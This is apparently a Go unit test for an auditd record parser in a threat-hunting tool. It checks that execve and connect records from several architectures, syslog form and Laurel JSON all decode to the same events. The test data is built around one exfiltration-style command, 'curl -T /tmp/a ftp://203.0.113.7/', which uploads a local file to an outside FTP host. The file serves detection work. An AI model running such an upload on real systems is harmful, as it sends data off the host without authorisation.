package auditd

import (
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"github.com/sluice-hunt/sluice/event"
)

// The other forms of the same records: other architectures, the kernel's numeric types with a
// syslog prefix, the 32-bit socketcall, Laurel's string forms.
func TestVariants(t *testing.T) {
	curl := event.Host{Meta: event.Meta{Ref: event.Ref{Line: 1}, TS: 1700000000123000}, Op: event.OpProcess, Log: "auditd",
		Proc:   event.Proc{PID: 5, Image: "/usr/bin/curl", CommandLine: "curl -T /tmp/a ftp://203.0.113.7/", User: "0"},
		Parent: event.Proc{PID: 4}, Args: event.List{"curl", "-T", "/tmp/a", "ftp://203.0.113.7/"}, Initiated: event.Unset}
	noArgs := curl
	noArgs.Args = nil
	conn := event.Host{Meta: event.Meta{Ref: event.Ref{Line: 1}, TS: 1700000000123000}, Op: event.OpConnect, Log: "auditd",
		Flow:   event.Flow{Dst: netip.MustParseAddr("203.0.113.7"), DstPort: 21},
		Proc:   event.Proc{PID: 5, Image: "/usr/bin/curl", CommandLine: "curl -T /tmp/a ftp://203.0.113.7/", User: "0"},
		Parent: event.Proc{PID: 4}, Initiated: 1}
	const (
		execve = `argc=4 a0="curl" a1="-T" a2="/tmp/a" a3="ftp://203.0.113.7/"`
		title  = `proctitle=6375726C002D54002F746D702F61006674703A2F2F3230332E302E3131332E372F`
		sa     = `saddr=02000015CB0071070000000000000000`
	)
	sys := func(arch, nr, a0 string) string {
		return `type=SYSCALL msg=audit(1700000000.123:9): arch=` + arch + ` syscall=` + nr + ` success=yes exit=0 a0=` + a0 + ` items=0 ppid=4 pid=5 uid=0 comm="curl" exe="/usr/bin/curl"` + "\n"
	}
	rec := func(typ, body string) string { return "type=" + typ + " msg=audit(1700000000.123:9): " + body + "\n" }
	for _, c := range []struct {
		name, text string
		want       event.Host
	}{
		{"aarch64 execve", sys("c00000b7", "221", "1") + rec("EXECVE", execve) + rec("EOE", ""), curl},
		{"aarch64 connect", sys("c00000b7", "203", "3") + rec("SOCKADDR", sa) + rec("PROCTITLE", title) + rec("EOE", ""), conn},
		{"i386 socketcall connect", sys("40000003", "102", "3") + rec("SOCKADDR", sa) + rec("PROCTITLE", title) + rec("EOE", ""), conn},
		{"ppc64 big-endian sockaddr", sys("80000015", "328", "3") + rec("SOCKADDR", `saddr=00020015CB0071070000000000000000`) + rec("PROCTITLE", title) + rec("EOE", ""), conn},
		{"unknown arch with EXECVE", sys("deadbeef", "1", "1") + rec("EXECVE", execve) + rec("EOE", ""), curl},
		{"enriched name overrides", strings.Replace(sys("c000003e", "999", "1"), "\n", "\x1dSYSCALL=execve\n", 1) + rec("EXECVE", execve) + rec("EOE", ""), curl},
		{"execve without EXECVE", sys("c000003e", "59", "1") + rec("PROCTITLE", title) + rec("EOE", ""), noArgs},
		{"kernel form in syslog", strings.ReplaceAll(sys("c000003e", "59", "1")+rec("EXECVE", execve)+rec("EOE", ""), "type=SYSCALL msg=audit(", "Nov 14 22:13:20 web01 kernel: audit: type=1300 audit("),
			curl},
		{"laurel argv string", `{"ID":"1700000000.123:9","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","pid":5,"ppid":4,"uid":0,"exe":"/usr/bin/curl"},"EXECVE":{"argc":4,"ARGV_STR":"curl -T /tmp/a ftp://203.0.113.7/"}}` + "\n", noArgs},
		{"laurel proctitle string", `{"ID":"1700000000.123:9","SYSCALL":{"arch":"0xc000003e","syscall":42,"success":"yes","pid":5,"ppid":4,"uid":0,"exe":"/usr/bin/curl"},"SOCKADDR":[{"saddr":{"family":"inet","addr":"203.0.113.7","port":21}}],"PROCTITLE":{"proctitle":"curl%00-T%00/tmp/a%00ftp://203.0.113.7/"}}` + "\n", conn},
	} {
		t.Run(c.name, func(t *testing.T) {
			var col collector
			st := readDirect([]byte(c.text), &col)
			if len(col.evs) != 1 || len(st.Problems) > 0 {
				t.Fatalf("%d events, problems %v", len(col.evs), problems(st))
			}
			if !reflect.DeepEqual(col.evs[0], c.want) {
				t.Errorf("\n got %+v\nwant %+v", col.evs[0], c.want)
			}
		})
	}
}
